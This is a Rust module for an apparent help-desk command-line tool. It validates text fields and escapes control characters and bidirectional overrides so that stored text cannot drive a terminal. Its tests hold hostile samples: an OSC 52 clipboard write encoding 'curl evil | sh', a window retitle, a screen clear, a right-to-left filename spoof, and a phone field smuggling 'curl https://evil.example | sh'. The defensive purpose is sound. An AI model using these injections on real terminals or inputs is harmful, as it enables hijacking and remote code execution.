//! Text is data. What each field accepts on the way in (one line or several, how long), and
//! how stored text is shown on the way out so that it can never drive a terminal: an escape
//! sequence in a caller's name must not write the clipboard, retitle the window or clear the
//! screen of whoever prints it.
//!
//! On the way in a field refuses control characters (C0, DEL, C1, ESC) and the bidirectional
//! overrides that reorder what is shown; a multi-line field accepts line breaks and tabs.
//! On the way out anything that is still stored (from an older desk, or a file edited by
//! hand) is shown escaped as `\u001b`, which is also how JSON writes it.

use std::borrow::Cow;
use std::fmt;
use std::io::{self, Write};

/// A text a person or a file supplies, with the rules it is held to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Field {
    Name,
    Organization,
    Phone,
    Email,
    Identifier,
    Subject,
    Category,
    Assignee,
    /// What was promised.
    Promise,
    Note,
    /// A short value of a file's row that is none of the above: a key, a status, a time.
    Value,
}

/// One place for every limit. Names and subjects fit on a line of a report; handles are what
/// a phone or a mail client takes; a note holds a pasted log excerpt but not a whole log.
impl Field {
    pub const fn max_chars(self) -> usize {
        match self {
            Field::Name | Field::Organization => 200,
            Field::Phone | Field::Email | Field::Identifier => 100,
            Field::Subject => 300,
            Field::Category | Field::Assignee | Field::Value => 100,
            Field::Promise => 1_000,
            Field::Note => 50_000,
        }
    }

    /// Notes keep their line breaks; everything else is shown on one line and a handle is
    /// copied to the clipboard as it is shown.
    pub const fn multi_line(self) -> bool {
        matches!(self, Field::Note)
    }

    pub const fn label(self) -> &'static str {
        match self {
            Field::Name => "the name",
            Field::Organization => "the organization",
            Field::Phone => "the phone number",
            Field::Email => "the e-mail address",
            Field::Identifier => "the identifier",
            Field::Subject => "the subject",
            Field::Category => "the category",
            Field::Assignee => "the assignee",
            Field::Promise => "the promise",
            Field::Note => "the note",
            Field::Value => "the value",
        }
    }
}

/// A raw CSV field longer than this is refused before it is read as any column: a file with
/// a 50 MB cell is a broken file, not a caller.
pub const CSV_FIELD_MAX_BYTES: usize = 64 * 1024;

#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum TextError {
    #[error("{} is {length} characters long; at most {limit} are accepted", .field.label())]
    TooLong {
        field: Field,
        length: usize,
        limit: usize,
    },
    #[error("{} has a line break; it must be one line", .field.label())]
    LineBreak { field: Field },
    #[error(
        "{} holds the control character {} at character {position}; control characters are not accepted",
        .field.label(), Escaped(*.character)
    )]
    Control {
        field: Field,
        character: char,
        position: usize,
    },
}

/// The refusal of a raw CSV field over `CSV_FIELD_MAX_BYTES`, or `None` for one that fits.
pub fn csv_field_too_long(column: &str, field: &[u8]) -> Option<String> {
    (field.len() > CSV_FIELD_MAX_BYTES).then(|| {
        format!(
            "{column} is {} bytes long; a field holds at most {} KiB",
            field.len(),
            CSV_FIELD_MAX_BYTES / 1024
        )
    })
}

/// Characters that are never part of stored text: control characters (C0, DEL, C1) and the
/// bidirectional embeddings, overrides and isolates, which make a line read differently from
/// what it holds. Line breaks and tabs are judged by the field.
pub fn is_forbidden(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Checks `text` against the field's rules and returns it as stored: in a multi-line field a
/// Windows line end (CR LF) becomes a plain line break. Nothing is silently dropped.
pub fn accept(field: Field, text: &str) -> Result<String, TextError> {
    let text = if field.multi_line() {
        text.replace("\r\n", "\n")
    } else {
        text.to_string()
    };
    let length = text.chars().count();
    if length > field.max_chars() {
        return Err(TextError::TooLong {
            field,
            length,
            limit: field.max_chars(),
        });
    }
    for (position, c) in text.chars().enumerate() {
        match c {
            '\n' | '\t' if field.multi_line() => {}
            '\n' | '\r' => return Err(TextError::LineBreak { field }),
            c if is_forbidden(c) => {
                return Err(TextError::Control {
                    field,
                    character: c,
                    position: position + 1,
                });
            }
            _ => {}
        }
    }
    Ok(text)
}

/// What a paste into the desk leaves: line breaks kept (the fields that take one line flatten
/// them themselves), a tab as a space, every other control character and override dropped.
/// A paste is not refused, as the agent sees the result before saving it.
pub fn clean_paste(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    text.chars()
        .filter_map(|c| match c {
            '\n' | '\r' => Some('\n'),
            '\t' => Some(' '),
            c if is_forbidden(c) => None,
            c => Some(c),
        })
        .collect()
}

/// Stored text as it may be shown on a terminal: every forbidden character except line breaks
/// and tabs written as `\u001b`. Borrowed when there is nothing to escape, which is nearly
/// always.
pub fn escape(text: &str) -> Cow<'_, str> {
    escape_with(text, |c| matches!(c, '\n' | '\t'))
}

/// As `escape`, for a line of a table or a status bar: a line break is escaped too.
pub fn escape_line(text: &str) -> Cow<'_, str> {
    escape_with(text, |_| false)
}

fn escape_with(text: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    let mut shown: Option<String> = None;
    // The bytes of `text` before this are in `shown` already.
    let mut copied = 0;
    let mut from = 0;
    while let Some(at) = next_suspect(text.as_bytes(), from) {
        // A suspect byte is ASCII or the first byte of a character, so `at` is a boundary.
        let Some(c) = text.get(at..).and_then(|rest| rest.chars().next()) else {
            break;
        };
        from = at + c.len_utf8();
        if is_forbidden(c) && !keep(c) {
            let shown = shown.get_or_insert_with(|| String::with_capacity(text.len() + 16));
            shown.push_str(&text[copied..at]);
            shown.push_str(&Escaped(c).to_string());
            copied = from;
        }
    }
    match shown {
        None => Cow::Borrowed(text),
        Some(mut shown) => {
            shown.push_str(&text[copied..]);
            Cow::Owned(shown)
        }
    }
}

/// Where the next character that may be forbidden starts. Every forbidden character is
/// written with one of these bytes (C0 and DEL themselves, C1 after 0xC2, the bidirectional
/// controls after 0xE2), so only those characters are decoded. Everything a report prints
/// passes through here: blocks are tested whole, without a branch per byte, so that the
/// compiler can test many bytes at once.
fn next_suspect(bytes: &[u8], from: usize) -> Option<usize> {
    let suspect = |b: u8| (b < 0x20) | (b == 0x7f) | (b == 0xc2) | (b == 0xe2);
    let mut start = from;
    for block in bytes.get(from..)?.chunks(32) {
        if block.iter().fold(false, |any, b| any | suspect(*b)) {
            return block.iter().position(|b| suspect(*b)).map(|i| start + i);
        }
        start += block.len();
    }
    None
}

/// `\u001b`: readable, and a valid escape inside a JSON string, so JSON output stays JSON.
struct Escaped(char);

impl fmt::Display for Escaped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "\\u{:04x}", u32::from(self.0))
    }
}

/// Everything the command line prints goes through this: tables, CSV and JSON on stdout and
/// messages on stderr. Whether stdout is a terminal or a file makes no difference, because a
/// file of output is read with `cat` and `less` later; faithful data goes to the files
/// `balie export` writes. Line breaks and tabs pass; any other control character or override
/// is written as `\u001b`. Bytes that are not UTF-8 are written as `\x9b`.
pub struct TerminalSafe<W: Write> {
    inner: W,
    /// The start of a character whose remaining bytes have not been written yet.
    pending: Vec<u8>,
}

impl<W: Write> TerminalSafe<W> {
    pub fn new(inner: W) -> Self {
        TerminalSafe {
            inner,
            pending: Vec::new(),
        }
    }

    fn write_valid(&mut self, text: &str) -> io::Result<()> {
        self.inner.write_all(escape(text).as_bytes())
    }
}

impl<W: Write> Write for TerminalSafe<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        // Only a character cut between two writes needs a copy to be joined up.
        if self.pending.is_empty() {
            self.write_bytes(buf)?;
        } else {
            let mut bytes = std::mem::take(&mut self.pending);
            bytes.extend_from_slice(buf);
            self.write_bytes(&bytes)?;
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        if !self.pending.is_empty() {
            let cut = std::mem::take(&mut self.pending);
            for byte in &cut {
                write!(self.inner, "\\x{byte:02x}")?;
            }
        }
        self.inner.flush()
    }
}

impl<W: Write> TerminalSafe<W> {
    /// Writes what is valid UTF-8 escaped, a byte that is not as `\x9b`, and keeps a
    /// character cut at the end for the next write.
    fn write_bytes(&mut self, bytes: &[u8]) -> io::Result<()> {
        let mut rest = bytes;
        loop {
            match std::str::from_utf8(rest) {
                Ok(text) => {
                    self.write_valid(text)?;
                    break;
                }
                Err(error) => {
                    let (valid, after) = rest.split_at(error.valid_up_to());
                    // Checked by from_utf8 just now.
                    self.write_valid(std::str::from_utf8(valid).unwrap_or_default())?;
                    match error.error_len() {
                        Some(bad) => {
                            for byte in &after[..bad] {
                                write!(self.inner, "\\x{byte:02x}")?;
                            }
                            rest = &after[bad..];
                        }
                        // A character cut between two writes: finish it with the next one.
                        None => {
                            self.pending = after.to_vec();
                            break;
                        }
                    }
                }
            }
        }
        Ok(())
    }
}

impl<W: Write> Drop for TerminalSafe<W> {
    fn drop(&mut self) {
        // Errors were reported by the writes that mattered; a reader gone now is no news.
        let _ = self.flush();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Sequences that took over a terminal: the clipboard (OSC 52), the window title (OSC 0),
    /// a cleared screen (CSI 2J), an 8-bit CSI, the bell, NUL, DEL, a lone CR that overwrites
    /// the line, and a right-to-left override.
    const HOSTILE: &[&str] = &[
        "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}",
        "\u{1b}]0;pwned\u{7}",
        "\u{1b}[2J",
        "\u{9b}2J",
        "\u{7}",
        "\0",
        "\u{7f}",
        "paid\rUNPAID",
        "\u{202e}fdp.exe",
    ];

    fn has_raw_control(text: &str) -> bool {
        text.chars()
            .any(|c| is_forbidden(c) && !matches!(c, '\n' | '\t'))
    }

    #[test]
    fn every_field_refuses_control_characters_and_names_itself() {
        for field in [Field::Name, Field::Phone, Field::Subject, Field::Note] {
            for hostile in HOSTILE {
                let error = accept(field, &format!("Jan {hostile}")).unwrap_err();
                let message = error.to_string();
                assert!(message.starts_with(field.label()), "{message}");
                assert!(!has_raw_control(&message), "{message:?}");
            }
        }
        let message = accept(Field::Name, "Jan\u{1b}[2J").unwrap_err().to_string();
        assert_eq!(
            message,
            "the name holds the control character \\u001b at character 4; control characters are not accepted"
        );
    }

    #[test]
    fn only_notes_take_line_breaks_and_tabs() {
        let phone = "0612345678\ncurl https://evil.example | sh";
        assert_eq!(
            accept(Field::Phone, phone),
            Err(TextError::LineBreak {
                field: Field::Phone
            })
        );
        assert!(accept(Field::Name, "Jan\tde Vries").is_err());
        assert_eq!(
            accept(Field::Note, "first\r\nsecond\tcolumn").unwrap(),
            "first\nsecond\tcolumn"
        );
        assert!(accept(Field::Note, "paid\rUNPAID").is_err());
        assert_eq!(
            accept(Field::Name, "Ödön Kovács ‏אבי").unwrap(),
            "Ödön Kovács ‏אבי"
        );
    }

    #[test]
    fn limits_count_characters_and_say_the_limit() {
        let name = "é".repeat(200);
        assert_eq!(accept(Field::Name, &name).unwrap(), name);
        let message = accept(Field::Name, &"é".repeat(201))
            .unwrap_err()
            .to_string();
        assert_eq!(
            message,
            "the name is 201 characters long; at most 200 are accepted"
        );
        assert!(accept(Field::Subject, &"x".repeat(100_000)).is_err());
    }

    #[test]
    fn a_paste_loses_its_controls_and_keeps_its_lines() {
        assert_eq!(
            clean_paste("Jan\u{1b}]0;x\u{7}\r\nde\tVries\u{202e}\u{9b}"),
            "Jan]0;x\nde Vries"
        );
    }

    #[test]
    fn escaping_leaves_no_raw_control_and_keeps_ordinary_text_borrowed() {
        for hostile in HOSTILE {
            let shown = escape(hostile);
            assert!(!has_raw_control(&shown), "{shown:?}");
        }
        assert_eq!(escape("\u{1b}[2J"), "\\u001b[2J");
        assert_eq!(escape("\u{9b}"), "\\u009b");
        assert_eq!(escape("a\nb\tc"), "a\nb\tc");
        assert_eq!(escape_line("a\nb"), "a\\u000ab");
        assert!(matches!(escape("Ödön"), Cow::Borrowed(_)));
    }

    /// The quick pass over bytes that lets ordinary text through misses no character, at
    /// the start, the end or the edge of a block of bytes, and alone or beside another.
    #[test]
    fn every_forbidden_character_is_escaped_wherever_it_stands() {
        let one_by_one = |text: &str| -> String {
            text.chars()
                .map(|c| match is_forbidden(c) {
                    true => format!("\\u{:04x}", u32::from(c)),
                    false => c.to_string(),
                })
                .collect()
        };
        for c in (0..=0x10ffff).filter_map(char::from_u32) {
            let text = format!("Ödön{c}x");
            assert_eq!(escape_line(&text), one_by_one(&text), "{c:?}");
        }
        // Every character whose first byte the quick pass looks for lies below U+3000.
        let padding = "x".repeat(31);
        for c in (0..0x3000).filter_map(char::from_u32) {
            for text in [
                format!("{c}"),
                format!("{padding}{c}{c}"),
                format!("{}\u{1b}{c}", &padding[1..]),
                format!("{padding}é{c}\u{202e}"),
            ] {
                assert_eq!(escape_line(&text), one_by_one(&text), "{c:?}");
            }
        }
    }

    #[test]
    fn the_writer_escapes_across_writes_and_keeps_json_valid() {
        let mut out = TerminalSafe::new(Vec::new());
        let json = serde_json::to_string(&["\u{1b}]0;x\u{7}", "\u{9b}2J\u{7f}", "é"]).unwrap();
        // One byte at a time cuts every multi-byte character in two.
        for byte in json.as_bytes() {
            out.write_all(&[*byte]).unwrap();
        }
        out.write_all(b"\n\x9b\n").unwrap();
        out.flush().unwrap();
        let written = String::from_utf8(out.inner.clone()).unwrap();
        assert!(
            !has_raw_control(written.trim_end_matches('\n')),
            "{written:?}"
        );
        let (json_line, bad) = written.split_once('\n').unwrap();
        let back: Vec<String> = serde_json::from_str(json_line).unwrap();
        assert_eq!(back, ["\u{1b}]0;x\u{7}", "\u{9b}2J\u{7f}", "é"]);
        assert_eq!(bad, "\\x9b\n");
    }
}
